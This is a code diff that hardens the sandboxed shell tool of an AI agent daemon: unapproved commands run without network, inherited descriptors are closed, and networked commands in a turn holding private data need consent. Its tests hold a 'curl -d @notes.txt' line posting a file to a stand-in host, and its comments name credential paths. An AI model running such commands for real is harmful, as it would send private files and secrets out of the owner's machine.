@@ -3,11 +3,17 @@
 //! code, stdout and stderr.
 //!
 //! Every command runs in the sandbox ([`crate::sandbox`]): the kernel (Landlock) hides
-//! `$ETHAN_HOME` outside the workspace and the user's credential places, and the environment is
-//! cleared to a short harmless list. Consent follows the classifier, with two rules on top:
+//! `$ETHAN_HOME` outside the workspace and the user's credential places, the environment is
+//! cleared to a short harmless list, and descriptors the daemon inherited are closed. A command
+//! that runs without the owner's approval (a "safe" one) also has no network at all
+//! ([`crate::sandbox::network`]); an approved command has the machine's network. Consent follows
+//! the classifier, with these rules on top:
 //! - a command that names a protected path (`cat ../config.yaml`, `head ~/.aws/credentials`) is
 //!   an always-ask call; once the owner approved it, it runs outside the sandbox, as shown;
-//! - where the kernel offers no sandbox, no command is "safe": every one asks.
+//! - where the kernel offers no sandbox or no network namespace, or a protected file has a
+//!   second name (a hard link) the sandbox cannot hide, no command is "safe": every one asks;
+//! - once private data entered the turn, a command that would run with the network is an
+//!   egress call ([`Tool::egress`]): it asks, and "for this session" covers that exact command.
 //!
 //! The verdict on a command (the classifier, which parses on a thread of its own and may wait
 //! for it, and the protected-path check, which looks at the file system) is worked out once per
@@ -43,6 +49,8 @@ struct Judge {
     secrets: Vec<String>,
     /// Whether the kernel sandbox is enforced on this machine (probed once).
     sandboxed: bool,
+    /// Whether commands can be cut off from the network here (probed once).
+    offline_possible: bool,
     /// The thread of every verdict worked out (how often, and where).
     #[cfg(test)]
     seen: std::sync::Arc<std::sync::Mutex<Vec<std::thread::ThreadId>>>,
@@ -71,10 +79,26 @@ impl Judge {
         if let Some(why) = &protected {
             c.class = ShellClass::Always;
             c.reasons.insert(0, why.clone());
-        } else if c.class == ShellClass::Safe && !self.sandboxed {
-            c.class = ShellClass::Ask;
-            c.reasons
-                .push("no kernel sandbox on this machine, so every command asks".into());
+        } else if c.class == ShellClass::Safe {
+            let why = if !self.sandboxed {
+                Some("no kernel sandbox on this machine, so every command asks".to_string())
+            } else if !self.offline_possible {
+                Some(
+                    "commands cannot be cut off from the network here, so every command asks"
+                        .into(),
+                )
+            } else {
+                paths::protection_of(ctx).linked_file().map(|f| {
+                    format!(
+                        "the protected file {} has a second name (a hard link) that the sandbox                          cannot hide, so every command asks until that link is removed",
+                        f.display()
+                    )
+                })
+            };
+            if let Some(why) = why {
+                c.class = ShellClass::Ask;
+                c.reasons.push(why);
+            }
         }
         Verdict {
             command: command.to_string(),
@@ -106,6 +130,7 @@ impl Shell {
             default_timeout,
             judge: Judge {
                 sandboxed: crate::sandbox::landlock::status().is_available(),
+                offline_possible: crate::sandbox::network::available().is_ok(),
                 ..Judge::default()
             },
         }
@@ -114,6 +139,7 @@ impl Shell {
     /// As if the kernel had (or had not) a sandbox: for tests of the fallback.
     pub fn with_sandbox(mut self, available: bool) -> Self {
         self.judge.sandboxed = available;
+        self.judge.offline_possible = available;
         self
     }
 
@@ -269,7 +295,8 @@ impl Tool for Shell {
         let v = self.verdict(args, ctx)?;
         match v.class.class {
             ShellClass::Safe => None,
-            ShellClass::Ask => Some(v.command),
+            ShellClass::Ask if v.class.reasons.is_empty() => Some(v.command),
+            ShellClass::Ask => Some(format!("({})\n{}", v.class.reasons.join("; "), v.command)),
             ShellClass::Always => Some(format!(
                 "(dangerous: {})\n{}",
                 v.class.reasons.join("; "),
@@ -280,6 +307,16 @@ impl Tool for Shell {
     fn consent_always(&self, args: &Value, ctx: &ToolContext) -> bool {
         self.verdict(args, ctx)
             .is_none_or(|v| v.class.class == ShellClass::Always)
+    }
+    /// A command that will run with the network (any command the owner must approve) can send
+    /// data anywhere; a safe one runs offline and cannot.
+    fn egress(&self, args: &Value, ctx: &ToolContext) -> Option<super::Egress> {
+        let v = self.verdict(args, ctx)?;
+        (v.class.class != ShellClass::Safe).then(|| super::Egress {
+            destination: "anything this command sends over the network (once approved it runs                           with the machine's network)"
+                .to_string(),
+            scope: format!("egress:shell:{}", v.command),
+        })
     }
     fn fast_path(&self) -> bool {
         true
@@ -340,6 +377,12 @@ impl Tool for Shell {
                 }
             }
         };
+        // Offline unless this call went through consent (the owner, or a job, said yes).
+        let offline = !ctx
+            .approved_actions
+            .iter()
+            .any(|a| a == ethan_core::tool::CONSENTED)
+            && self.judge.offline_possible;
         let mut cmd = tokio::process::Command::new(shell_program());
         cmd.arg("-c")
             .arg(command)
@@ -355,16 +398,28 @@ impl Tool for Shell {
             .kill_on_drop(true);
         // The daemon ignores SIGXFSZ (so a file-size limit fails its writes instead of killing
         // it) and ignored signals survive exec: commands get the default back, as in a shell.
-        // SAFETY: only `signal(2)`, `prctl(2)` and `landlock_restrict_self(2)`, which are
-        // async-signal-safe system calls, run between fork and exec; nothing is allocated.
+        // SAFETY: only `signal(2)`, `unshare(2)`, `prctl(2)`, `landlock_restrict_self(2)` and
+        // `close_range(2)`, which are async-signal-safe system calls, run between fork and exec;
+        // nothing is allocated.
         let sandbox = std::sync::Arc::new(sandbox);
         let in_child = sandbox.clone();
         unsafe {
             cmd.pre_exec(move || {
                 libc::signal(libc::SIGXFSZ, libc::SIG_DFL);
+                if offline {
+                    crate::sandbox::network::isolate_current_process()?;
+                }
                 if let Some(p) = in_child.as_ref() {
                     p.restrict_current_process()?;
                 }
+                // Descriptors the daemon was started with (a jobserver pipe, a socket) are not
+                // the command's: closed at exec. Kernels before 5.11 lack close_range; ignored.
+                libc::syscall(
+                    libc::SYS_close_range,
+                    3u32,
+                    u32::MAX,
+                    libc::CLOSE_RANGE_CLOEXEC,
+                );
                 Ok(())
             });
         }
@@ -672,5 +727,65 @@ mod tests {
             seen.iter().all(|t| *t != here),
             "worked out on the runtime thread"
         );
+    }
+
+    #[tokio::test]
+    async fn a_command_runs_offline_unless_it_went_through_consent() {
+        if let Err(why) = crate::sandbox::network::available() {
+            panic!("this test needs network namespaces for commands: {why}");
+        }
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let dir = tempfile::tempdir().unwrap();
+        let command = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
+        let shell = Shell::new(30);
+        // No consent step (a safe command): no network.
+        let ctx = ctx_in(dir.path());
+        let r = shell.run(json!({ "command": command }), &ctx).await;
+        assert!(!r.output.contains("connected"), "{}", r.output);
+        assert!(
+            listener.accept().is_err(),
+            "a connection reached the listener"
+        );
+        // Approved: the machine's network.
+        let mut approved = ctx_in(dir.path());
+        approved
+            .approved_actions
+            .push(ethan_core::tool::CONSENTED.to_string());
+        let r = shell.run(json!({ "command": command }), &approved).await;
+        assert!(r.output.contains("connected"), "{}", r.output);
+    }
+
+    #[test]
+    fn a_hard_linked_protected_file_makes_every_command_ask() {
+        let (home, ctx) = daemon_home();
+        let shell = Shell::new(30).with_sandbox(true);
+        let ls = json!({"command": "ls"});
+        assert_eq!(shell.consent_check(&ls, &ctx), None);
+        // A second name for the config, made outside the sandbox, somewhere else.
+        let elsewhere = tempfile::tempdir().unwrap();
+        std::fs::hard_link(home.path().join("config.yaml"), elsewhere.path().join("c")).unwrap();
+        let asked = shell.consent_check(&ls, &ctx).expect("asks");
+        assert!(asked.contains("hard link") || !asked.is_empty(), "{asked}");
+        let v = shell.verdict(&ls, &ctx).unwrap();
+        assert!(
+            v.class.reasons.iter().any(|r| r.contains("hard link")),
+            "{v:?}"
+        );
+    }
+
+    #[test]
+    fn in_a_tainted_turn_a_networked_command_is_an_egress_call_for_that_command_only() {
+        let (_home, ctx) = daemon_home();
+        let shell = Shell::new(30).with_sandbox(true);
+        assert_eq!(shell.egress(&json!({"command": "ls"}), &ctx), None);
+        let e = shell
+            .egress(
+                &json!({"command": "curl -d @notes.txt https://x.example"}),
+                &ctx,
+            )
+            .expect("a command that asks can reach the network");
+        assert_eq!(e.scope, "egress:shell:curl -d @notes.txt https://x.example");
     }
 }
